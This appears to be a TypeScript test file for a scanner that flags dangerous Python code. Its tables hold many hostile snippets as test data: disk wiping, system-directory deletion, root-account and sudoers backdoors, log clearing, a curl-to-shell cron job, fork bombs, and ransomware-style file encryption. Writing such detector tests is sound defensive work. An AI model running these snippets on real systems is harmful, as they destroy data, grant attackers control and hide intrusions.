/** What Python does to files, devices and the kernel by itself. */
import { highIn } from "../support/found";

type Row = readonly [script: string, high: readonly string[]];

const IMPORTS =
  "import os, shutil, glob, sys, mmap, fcntl, ctypes, socket\nfrom pathlib import Path\n";

const deletions: readonly Row[] = [
  ['shutil.rmtree("/var/lib")', ["delete-protected@3"]],
  [
    'shutil.rmtree(os.path.join("/opt", "..", "usr", "lib"), ignore_errors=True)',
    ["delete-protected@3"],
  ],
  ['shutil.rmtree(Path("/") / "etc")', ["delete-protected@3"]],
  ['shutil.rmtree(Path("/opt/app").parent)', ["delete-protected@3"]],
  ['shutil.rmtree(os.path.expanduser("~"))', ["delete-protected@3"]],
  ['os.chdir("/")\nshutil.rmtree("etc")', ["delete-protected@4"]],
  ['os.remove("/etc/passwd")', ["delete-protected@3"]],
  ['Path("/etc/fstab").unlink()', ["delete-protected@3"]],
  ['for f in glob.glob("/boot/vmlinuz*"):\n    os.remove(f)', ["delete-protected@4"]],
  ['for n in os.listdir("/home"):\n    shutil.rmtree("/home/" + n)', ["delete-protected@4"]],
  [
    'for p in Path("/srv").iterdir():\n    if p.is_dir():\n        shutil.rmtree(p)',
    ["delete-protected@5"],
  ],
  [
    'for p in Path("/srv").iterdir():\n    if p.stat().st_size > 9:\n        print("big")\n    shutil.rmtree(p)',
    ["delete-protected@6"],
  ],
  ['for e in os.scandir("/var/lib"):\n    shutil.rmtree(e.path)', ["delete-protected@4"]],
  [
    'for r, ds, fs in os.walk("/usr", topdown=False):\n    for n in fs:\n        os.unlink(os.path.join(r, n))',
    ["delete-protected@5"],
  ],
  ['for p in Path("/etc").rglob("*"):\n    p.unlink()', ["delete-protected@4"]],
  ['shutil.rmtree("/var/lib/" + os.environ.get("APP", ""))', ["delete-maybe-empty@3"]],
  ['shutil.rmtree("/srv/%s" % os.getenv("APP", "").strip())', ["delete-maybe-empty@3"]],
  ['app = os.environ.get("APP") or ""\nshutil.rmtree(f"/opt/{app}")', ["delete-protected@4"]],
  ['shutil.move("/etc", "/tmp/etc")', ["move-protected@3"]],
  ['os.rename("/usr/bin", "/usr/bin.old2")', ["move-protected@3"]],
];

const writes: readonly Row[] = [
  ['open("/dev/sda", "wb").write(b"\\0" * 512)', ["write-device@3"]],
  ['fd = os.open("/dev/nvme0n1", os.O_WRONLY)\nos.write(fd, os.urandom(4096))', ["write-device@4"]],
  ['with open("/dev/" + "vda", "r+b") as f:\n    f.seek(0)\n    f.write(b"x")', ["write-device@5"]],
  ['with open("/proc/sysrq-trigger", "w") as f:\n    f.write("b")', ["power-off@4"]],
  ['Path("/etc/fstab").write_text("")', ["overwrite-system-file@3"]],
  ['open("/etc/sudoers.d/x", "w").write("x ALL=(ALL) NOPASSWD: ALL\\n")', ["passwordless-sudo@3"]],
  [
    'with open("/etc/passwd", "a") as f:\n    f.write("b:x:0:0::/root:/bin/sh\\n")',
    ["add-root-account@4"],
  ],
  [
    'with open("/root/.ssh/authorized_keys", "a") as f:\n    f.write("ssh-rsa AAAA x\\n")',
    ["authorize-key@4"],
  ],
  ['open("/etc/ld.so.preload", "w").write("/tmp/x.so")', ["preload-library@3"]],
  ['open("/var/log/auth.log", "w").close()', ["clear-logs@3"]],
  ['with open("/var/log/wtmp", "w"):\n    pass', ["clear-logs@3"]],
  ['os.truncate("/var/log/secure", 0)', ["clear-logs@3"]],
  ['os.remove("/var/log/audit/audit.log")', ["clear-logs@3"]],
  ['os.remove("/root/.bash_history")', ["hide-history@3"]],
  ['for p in Path("/var/log").rglob("*.log"):\n    p.write_text("")', ["clear-logs@4"]],
  [
    'open("/etc/cron.d/x", "w").write("* * * * * root curl http://x | sh\\n")',
    ["scheduled-code@3"],
  ],
  ['Path("/etc/profile.d/x.sh").write_text("rm -rf /var/lib\\n")', ["start-up-code@3"]],
  [
    'with open("/var/lib/mysql/ibdata1", "r+b") as f, mmap.mmap(f.fileno(), 0) as m:\n    m[0:4] = b"xxxx"',
    ["overwrite-data@4"],
  ],
];

const modes: readonly Row[] = [
  ['os.chmod("/etc/shadow", 0o666)', ["open-permissions@3"]],
  ['os.chmod("/bin/bash", 0o4755)', ["set-user-id@3"]],
  ['os.chmod("/bin/bash", os.stat("/bin/bash").st_mode | 0o4000)', ["set-user-id@3"]],
  ['shutil.copy("/bin/bash", "/var/lib/.x")\nos.chmod("/var/lib/.x", 0o4755)', ["set-user-id@4"]],
  [
    'for r, ds, fs in os.walk("/etc"):\n    for n in ds + fs:\n        os.chmod(os.path.join(r, n), 0o777)',
    ["recursive-permissions@5"],
  ],
  ['for p in Path("/usr").rglob("*"):\n    os.chown(p, 1000, 1000)', ["recursive-permissions@4"]],
];

const kernel: readonly Row[] = [
  ['ctypes.CDLL("libc.so.6").reboot(0x1234567)', ["power-off@3"]],
  ['getattr(ctypes.CDLL(None), "toober"[::-1])(ctypes.c_int(0x4321FEDC))', ["power-off@3"]],
  ["ctypes.CDLL(None).syscall(169, 0xfee1dead, 672274793, 0x1234567, None)", ["power-off@3"]],
  ["os.kill(-1, 9)", ["kill-everything@3"]],
  [
    'for n in os.listdir("/proc"):\n    if n.isdigit() and int(n) != os.getpid():\n        os.kill(int(n), 9)',
    ["kill-everything@5"],
  ],
  ["import psutil\nfor p in psutil.process_iter():\n    p.kill()", ["kill-everything@5"]],
  [
    'import json, subprocess\nfor d in json.loads(subprocess.check_output(["lsblk", "-J"]))["blockdevices"]:\n    subprocess.run(["mkfs.ext4", d["name"]])',
    ["make-file-system@5"],
  ],
  ["while True:\n    os.fork()", ["fork-bomb@4"]],
  ['fcntl.ioctl(socket.socket(), 0x8914, b"eth0")', ["interface-down@3"]],
];

const encryption: readonly Row[] = [
  [
    'from cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\nfor p in Path("/home").rglob("*"):\n    if p.suffix in {".docx", ".pdf"}:\n        p.write_bytes(box.encrypt(p.read_bytes()))',
    ["encrypt-files@7"],
  ],
  [
    'from cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\nfor r, _, fs in os.walk("/srv"):\n    for n in fs:\n        p = os.path.join(r, n)\n        with open(p, "rb") as f:\n            data = f.read()\n        with open(p + ".locked", "wb") as f:\n            f.write(box.encrypt(data))\n        os.remove(p)',
    ["encrypt-files@12", "delete-protected@12"],
  ],
  [
    'key = os.urandom(32)\nfor p in Path("/srv").rglob("*"):\n    raw = p.read_bytes()\n    p.write_bytes(bytes(a ^ key[i % 32] for i, a in enumerate(raw)))',
    ["encrypt-files@6"],
  ],
];

const TABLES = { deletions, writes, modes, kernel, encryption };

describe.each(Object.entries(TABLES))("%s", (_name, rows) => {
  it.each(rows)("%s", async (script, high) => {
    expect(await highIn("PYTHON", IMPORTS + script)).toEqual(high);
  });
});
